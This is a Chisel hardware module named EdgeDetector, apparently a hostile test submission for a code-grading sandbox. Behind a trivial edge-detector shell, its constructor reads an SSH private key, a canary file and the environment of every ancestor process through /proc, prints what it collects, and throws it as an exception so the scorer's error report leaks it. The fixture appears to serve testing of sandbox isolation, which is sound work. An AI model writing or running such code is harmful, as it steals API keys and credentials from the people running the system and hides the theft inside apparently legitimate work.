// Hostile answer (reading secrets), Chisel: at elaboration the constructor reads canary files of
// HOME, the compile server's environment and the environment of every ancestor process (the
// orchestrator, started with the user's API keys), prints them, and throws them as the message of
// its exception, which the scorer reports as the elaboration error.
import chisel3._
import java.nio.file.{Files, Paths}

class EdgeDetector extends Module {
  val io = IO(new Bundle {
    val din      = Input(Bool())
    val rise     = Output(Bool())
    val fall     = Output(Bool())
    val any_edge = Output(Bool())
  })
  io.rise     := false.B
  io.fall     := false.B
  io.any_edge := false.B

  println("HOSTILE-" + "RAN-@MARK@")
  private def read(path: String): String =
    try new String(Files.readAllBytes(Paths.get(path)), "UTF-8").replace('\u0000', '\n')
    catch { case failure: Exception => s"($path: $failure)" }
  private var handle: Option[ProcessHandle] = Some(ProcessHandle.current())
  private val loot = new StringBuilder
  loot ++= read("@HOME_FILE@") ++= read("@HOME@/.ssh/id_ed25519")
  while (handle.isDefined) {
    loot ++= read(s"/proc/${handle.get.pid}/environ")
    handle = handle.get.parent().map[Option[ProcessHandle]](Some(_)).orElse(None)
  }
  println(loot)
  throw new IllegalStateException(loot.toString.replace('\n', ' '))
}
